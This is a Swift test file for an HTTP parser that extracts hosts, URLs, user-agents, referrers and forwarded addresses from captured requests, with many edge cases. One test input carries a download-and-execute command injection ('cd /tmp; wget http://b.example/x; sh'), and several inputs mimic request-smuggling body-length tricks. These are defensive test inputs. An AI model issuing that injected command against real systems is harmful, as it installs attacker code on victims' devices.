import TestSupport

/// Requests, and what each gives.
extension HTTPTests {
  @CaseTable static var requests: [CaptureCase] {
    CaptureCase(
      "every header that is read",
      request(
        "GET /a?b=C HTTP/1.1\r\nhost: WWW.Example.com\r\nUser-Agent:  curl/8.0 \r\n"
          + "Referer: https://Ref.example/x\r\n"
          + "X-Forwarded-For: 192.0.2.9, unknown, [2001:db8::9]:99, 192.0.2.10:80, "
          + "\"[2001:db8::a]:81\", 2001:db8::b%eth0\r\n\r\n"),
      [
        "1 http.host www.example.com", "1 http.url http://www.example.com/a?b=C",
        "1 http.user-agent curl/8.0",
        "1 http.referrer https://ref.example/x", "1 http.referrer ref.example",
        "1 http.x-forwarded-for 192.0.2.9",
        "1 http.x-forwarded-for 2001:db8::9:99", "1 http.x-forwarded-for 192.0.2.10:80",
        "1 http.x-forwarded-for 2001:db8::a:81", "1 http.x-forwarded-for 2001:db8::b",
      ])
    CaptureCase(
      "another port gives a second form",
      request("GET / HTTP/1.1\r\nHost: a.example\r\n\r\n", port: 8080),
      [
        "1 http.host a.example", "1 http.url http://a.example/",
        "1 http.url http://a.example:8080/",
      ])
    CaptureCase(
      "a port in the header is the only one",
      request("GET / HTTP/1.1\r\nHost: a.example:8000\r\n\r\n", port: 8080),
      ["1 http.host a.example", "1 http.url http://a.example:8000/"])
    CaptureCase(
      "an address as host keeps the header's port",
      request("GET / HTTP/1.1\r\nHost: 192.0.2.7:8000\r\n\r\n", port: 8000),
      ["1 http.host 192.0.2.7:8000", "1 http.url http://192.0.2.7:8000/"])
    CaptureCase(
      "the connection's own address as host has its port",
      request("GET / HTTP/1.1\r\nHost: 198.51.100.2\r\n\r\n", port: 8000),
      [
        "1 http.host 198.51.100.2:8000", "1 http.url http://198.51.100.2/",
        "1 http.url http://198.51.100.2:8000/",
      ])
    CaptureCase(
      "unless it is sent with another",
      request("GET / HTTP/1.1\r\nHost: 198.51.100.2:81\r\n\r\n", port: 8000),
      ["1 http.host 198.51.100.2:81", "1 http.url http://198.51.100.2:81/"])
    CaptureCase(
      "what a proxy is to ask for has the port of its scheme",
      request("GET http://198.51.100.2/ HTTP/1.1\r\n\r\n", port: 3128),
      ["1 http.host 198.51.100.2", "1 http.url http://198.51.100.2/"])
    CaptureCase(
      "an IPv6 address as host",
      request("GET / HTTP/1.1\r\nHost: [2001:db8::7]:81\r\n\r\n", port: 81),
      ["1 http.host 2001:db8::7:81", "1 http.url http://[2001:db8::7]:81/"])
    CaptureCase(
      "hosts of referrers",
      request(
        "GET / HTTP/1.1\r\nReferer: http://u:p@203.0.113.9:81/x\r\nReferer: r.example/x\r\n"
          + "Referer: /x\r\nReferer: http://[2001:db8::9]/\r\n\r\n", port: 8000),
      [
        "1 http.referrer http://203.0.113.9:81/x", "1 http.referrer 203.0.113.9:81",
        "1 http.referrer r.example/x", "1 http.referrer r.example",
        "1 http.referrer http://[2001:db8::9]/", "1 http.referrer 2001:db8::9",
        "1 http.url http://198.51.100.2:8000/",
      ])
    CaptureCase(
      "a word of a referrer that is no URL is no host",
      request(
        "GET * HTTP/1.1\r\nReferer: n/a\r\nReferer: http:/a.example/x\r\nReferer: text/html\r\n\r\n"
      ),
      [])
    CaptureCase(
      "an address with several ports is one line with all of them",
      request(
        "GET * HTTP/1.1\r\nHost: 198.51.100.2\r\nHost: 198.51.100.2:81\r\nHost: 198.51.100.2:82\r\n"
          + "Host: 198.51.100.2:81\r\nHost: 192.0.2.7\r\nHost: 198.51.100.2:8000\r\n\r\n",
        port: 8000),
      [
        "1 http.host 198.51.100.2:8000", "1 http.host 198.51.100.2:81",
        "1 http.host 198.51.100.2:82", "1 http.host 192.0.2.7",
      ])
    CaptureCase(
      "a host that the request line gives a port has that port",
      request("CONNECT 192.0.2.7:81 HTTP/1.1\r\nHost: 192.0.2.7\r\n\r\n", port: 3128)
        + request("GET http://192.0.2.8:82/ HTTP/1.1\r\nHost: 192.0.2.8\r\n\r\n", port: 3129)
        .dropFirst(24),
      [
        "1 http.host 192.0.2.7:81", "2 http.host 192.0.2.8:82", "2 http.url http://192.0.2.8:82/",
      ])
    CaptureCase(
      "an address that was forwarded with two ports",
      request("GET * HTTP/1.1\r\nX-Forwarded-For: 192.0.2.7:81, 192.0.2.7, 192.0.2.7:82\r\n\r\n"),
      [
        "1 http.x-forwarded-for 192.0.2.7:81", "1 http.x-forwarded-for 192.0.2.7",
        "1 http.x-forwarded-for 192.0.2.7:82",
      ])
    CaptureCase(
      "a URL has the form with the connection's port also behind a request of the same URL",
      request(
        "GET /x HTTP/1.1\r\nHost: a.example:80\r\n\r\nGET /x HTTP/1.1\r\nHost: a.example\r\n\r\n",
        port: 8000),
      [
        "1 http.host a.example", "1 http.url http://a.example/x",
        "1 http.url http://a.example:8000/x",
      ])
    CaptureCase(
      "a host with user information",
      request("GET / HTTP/1.1\r\nHost: user@a.example\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/"])
    CaptureCase(
      "a host with a name and a password, and a port",
      request("GET / HTTP/1.1\r\nHost: user:p@ss@evil.example:81\r\n\r\n"),
      ["1 http.host evil.example", "1 http.url http://evil.example:81/"])
    CaptureCase(
      "the same of a target and of a referrer",
      request(
        "GET http://u:p@192.0.2.7:81/ HTTP/1.1\r\nHost: u:p@[2001:db8::7]:82\r\n"
          + "Referer: u:p@r.example:83\r\n\r\n"),
      [
        "1 http.host 192.0.2.7:81", "1 http.url http://192.0.2.7:81/",
        "1 http.host 2001:db8::7:82", "1 http.referrer r.example",
      ])
    CaptureCase(
      "a host with percent units",
      request("GET / HTTP/1.1\r\nHost: %65vil.ex%61mple\r\n\r\n"),
      ["1 http.host evil.example", "1 http.url http://evil.example/"])
    CaptureCase(
      "an address with a zone as host",
      request("GET / HTTP/1.1\r\nHost: [2001:db8::7%25eth0]\r\n\r\n"),
      ["1 http.host 2001:db8::7", "1 http.url http://[2001:db8::7]/"])
    CaptureCase(
      "two hosts are two, the first makes the URL",
      request("GET / HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/", "1 http.host b.example"])
    CaptureCase(
      "the absolute form wins",
      request("GET http://b.example/x HTTP/1.1\r\nHost: a.example\r\n\r\n", port: 3128),
      ["1 http.host b.example", "1 http.url http://b.example/x", "1 http.host a.example"])
    CaptureCase(
      "without host the destination stands for it",
      request("GET /x HTTP/1.0\r\nAccept: */*\r\n\r\n", port: 8080),
      ["1 http.url http://198.51.100.2:8080/x"])
    CaptureCase(
      "without host on IPv6",
      pcap(
        Packet.ethernet(
          Packet.ip(
            Packet.client6, Packet.server6, 6,
            Packet.tcp(50000, 80, utf8("GET /x HTTP/1.0\r\n\r\n"))))),
      ["1 http.url http://[2001:db8::2]/x"])
    CaptureCase(
      "CONNECT yields name and port, no URL",
      request("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n", port: 3128),
      ["1 http.host evil.example"])
    CaptureCase(
      "CONNECT to an address",
      request("CONNECT 192.0.2.7:443 HTTP/1.1\r\n\r\n", port: 3128),
      ["1 http.host 192.0.2.7:443"])
    CaptureCase(
      "no URL: asterisk, empty and malformed targets",
      request(
        "OPTIONS * HTTP/1.1\r\nHost: a.example\r\n\r\nGET  HTTP/1.1\r\nHost: b.example\r\n\r\n"
          + "GET x/y HTTP/1.1\r\nHost: c.example\r\n\r\n"),
      ["1 http.host a.example", "1 http.host b.example", "1 http.host c.example"])
    CaptureCase(
      "blanks in a target and in a referrer",
      request(
        "GET /shell?cd+/tmp;wget http://b.example/x;sh\tx  HTTP/1.1\r\nHost: a.example\r\n"
          + "Referer: http://c.example/b?title=  two words\r\n\r\n"
          + "GET http://d.example/a b HTTP/1.1\r\n\r\nGET http://e .example/ HTTP/1.1\r\n\r\n"),
      [
        "1 http.host a.example",
        "1 http.url http://a.example/shell?cd+/tmp;wget%20http://b.example/x;sh%09x",
        "1 http.referrer http://c.example/b?title=%20%20two%20words", "1 http.referrer c.example",
        "1 http.host d.example", "1 http.url http://d.example/a%20b",
      ])
    CaptureCase(
      "a header that is there but for its line feed",
      request("GET /x HTTP/1.1\r\nHost: a.example\r"),
      ["1 http.host a.example", "1 http.url http://a.example/x"])
    CaptureCase(
      "a header that may go on", request("GET /x HTTP/1.1\r\nHost: a.example"), [])
    CaptureCase(
      "requests behind one another, with a body between",
      request(
        "POST /1 HTTP/1.1\r\nHost: a.example\r\nContent-Length: 3\r\n\r\nabc"
          + "GET /2 HTTP/1.1\r\nHost: b.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.host b.example",
        "1 http.url http://b.example/2",
      ])
    CaptureCase(
      "the body of a request for another protocol, with a request behind it",
      request(
        "POST /1 HTTP/1.1\r\nHost: a.example\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n"
          + "Content-Length: 37\r\n\r\nGET /body HTTP/1.1\r\nHost: x.example\r\n"
          + "GET /2 HTTP/1.1\r\nHost: b.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.host b.example",
        "1 http.url http://b.example/2",
      ])
    CaptureCase(
      "the same in chunks",
      request(
        "POST /1 HTTP/1.1\r\nHost: a.example\r\nUpgrade: websocket\r\n"
          + "Transfer-Encoding: chunked\r\n\r\n16\r\nGET /body HTTP/1.1\r\n\r\n0\r\n\r\n"
          + "GET /2 HTTP/1.1\r\nHost: b.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.host b.example",
        "1 http.url http://b.example/2",
      ])
    CaptureCase(
      "a coding that is none leaves the length to its header",
      request(
        "POST /1 HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: identity\r\n"
          + "Content-Length: 3\r\n\r\nabcGET /2 HTTP/1.1\r\nHost: b.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.host b.example",
        "1 http.url http://b.example/2",
      ])
    CaptureCase(
      "the last coding tells",
      request(
        "POST /1 HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: gzip, Chunked ,\r\n\r\n"
          + "00000000000000000003\r\nabc\r\n0\r\n\r\nGET /2 HTTP/1.1\r\nHost: b.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.host b.example",
        "1 http.url http://b.example/2",
      ])
    CaptureCase(
      "the rest of a body whose length is wrong, before the next request",
      request(
        "POST /1 HTTP/1.1\r\nHost: a.example\r\nContent-Length: 3\r\n\r\nabcdef\r\n"
          + "GET /2 HTTP/1.1\r\nHost: b.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.host b.example",
        "1 http.url http://b.example/2",
      ])
    CaptureCase(
      "a length that is said twice is one, two lengths are none",
      request(
        "POST /1 HTTP/1.1\r\nHost: a.example\r\nContent-Length: 3, 3 ,\r\n\r\nGET"
          + "POST /2 HTTP/1.1\r\nHost: b.example\r\nContent-Length: 3,4\r\n\r\n"
          + "GET /3 HTTP/1.1\r\nHost: c.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.host b.example",
        "1 http.url http://b.example/2", "1 http.host c.example", "1 http.url http://c.example/3",
      ])
    CaptureCase(
      "lengths that no body has are not believed",
      request(
        "POST /1 HTTP/1.1\r\nHost: a.example\r\nContent-Length: 99999999999999999999\r\n\r\nabc"
          + "POST /2 HTTP/1.1\r\nHost: b.example\r\nContent-Length: +3\r\n\r\nabc"
          + "POST /3 HTTP/1.1\r\nHost: c.example\r\nContent-Length: 9223372036854775808\r\n\r\n"
          + "POST /4 HTTP/1.1\r\nHost: d.example\r\nContent-Length: 4294967296\r\n\r\n"
          + "GET /body HTTP/1.1\r\nHost: e.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.host b.example",
        "1 http.url http://b.example/2", "1 http.host c.example", "1 http.url http://c.example/3",
        "1 http.host d.example", "1 http.url http://d.example/4",
      ])
    CaptureCase(
      "a first line without a version",
      request("GET /gen.php?x=1\r\nHost: a.example\r\nUser-Agent: ua\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/gen.php?x=1", "1 http.user-agent ua"])
    CaptureCase(
      "a first line that is all", request("GET /x\r\n"), ["1 http.url http://198.51.100.2/x"])
    CaptureCase(
      "an absolute form without a version", request("GET http://a.example/x\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/x"])
    CaptureCase(
      "CONNECT without a version", request("CONNECT a.example:443\r\n\r\n"),
      ["1 http.host a.example"])
    CaptureCase(
      "tabs between its parts", request("GET\t/x\tHTTP/1.1\r\nHost: a.example\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/x"])
    CaptureCase(
      "a version of another name", request("GET /x HTTPS/1.1\r\nHost: a.example\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/x"])
    CaptureCase(
      "what is no request", request("GET key\r\nHost: a.example\r\n\r\n"), [])
    CaptureCase(
      "nor of another protocol",
      request("OPTIONS /x RTSP/1.0\r\nHost: a.example\r\n\r\n", port: 554), [])
    CaptureCase(
      "a version that is no standard's",
      request("GET / HTTP/1.\r\nHost: a.example\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/"])
    CaptureCase(
      "bare line feeds, other methods, another version",
      request("PROPFIND /dav HTTP/1.0\nHost: a.example\n\n"),
      ["1 http.host a.example", "1 http.url http://a.example/dav"])
    CaptureCase(
      "blanks around the target, an empty line before the method",
      request("\r\nGET   /x  HTTP/1.1\r\nHost: a.example\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/x"])
    CaptureCase(
      "many empty lines before the method, and before the next one",
      request(
        "\r\n\r\n\n\r\nGET /1 HTTP/1.1\r\nHost: a.example\r\n\r\n"
          + String(repeating: "\r\n", count: 500)
          + "GET /2 HTTP/1.1\r\nHost: a.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.url http://a.example/2",
      ])
    CaptureCase(
      "a body that ends with an empty line too much",
      request(
        "POST /1 HTTP/1.0\r\nContent-Length: 1\r\n\r\nx\r\nGET http://a.example/2 HTTP/1.0\r\n\r\n"),
      [
        "1 http.url http://198.51.100.2/1", "1 http.host a.example",
        "1 http.url http://a.example/2",
      ])
    CaptureCase(
      "a continued header",
      request("GET / HTTP/1.1\r\nHost:\r\n a.example\r\nUser-Agent: a\r\n\tb\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/", "1 http.user-agent a b",
      ])
    CaptureCase(
      "a body that begins with a blank",
      request("POST /1 HTTP/1.1\r\nHost: a.example\r\nContent-Length: 2\r\n\r\n x"),
      ["1 http.host a.example", "1 http.url http://a.example/1"])
    CaptureCase(
      "a blank behind the version",
      request("GET /x HTTP/1.1 \r\nHost: a.example\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/x"])
    CaptureCase(
      "an address with a trailing dot is one",
      request("GET * HTTP/1.1\r\nHost: 192.0.2.7.:8000\r\n\r\n"),
      ["1 http.host 192.0.2.7:8000"])
    CaptureCase(
      "a referrer without a path is a name or an address",
      request(
        "GET * HTTP/1.1\r\nReferer: R.example\r\nReferer: 192.0.2.8:81\r\nReferer: a b\r\n\r\n"),
      ["1 http.referrer r.example", "1 http.referrer 192.0.2.8:81"])
    CaptureCase(
      "a head that is cut: what is complete",
      request("GET /x HTTP/1.1\r\nUser-Agent: a\r\nHost: a.exam"),
      ["1 http.user-agent a"])
    CaptureCase(
      "a head that is cut behind the host",
      request("GET /x HTTP/1.1\r\nHost: a.example\r\nCook"),
      ["1 http.host a.example", "1 http.url http://a.example/x"])
    CaptureCase(
      "a host that is none",
      request("GET / HTTP/1.1\r\nHost: A B\r\n\r\n"), ["1 http.host a b"])
    CaptureCase(
      "a response gives nothing",
      request("HTTP/1.1 200 OK\r\nHost: a.example\r\n\r\n"), [])
    CaptureCase(
      "text that is no request",
      request("GET me out of here\r\nHost: a.example\r\n\r\n"), [])
    CaptureCase(
      "SSDP: host and user agent",
      pcap(
        Packet.ethernet(
          Packet.ip(
            Packet.client, [239, 255, 255, 250], 17,
            Packet.udp(
              50000, 1900,
              Array(
                ("M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n"
                  + "User-Agent: x/1\r\nReferer: http://a.example/\r\n\r\n").utf8))))),
      ["1 http.host 239.255.255.250:1900", "1 http.user-agent x/1"])
  }
}
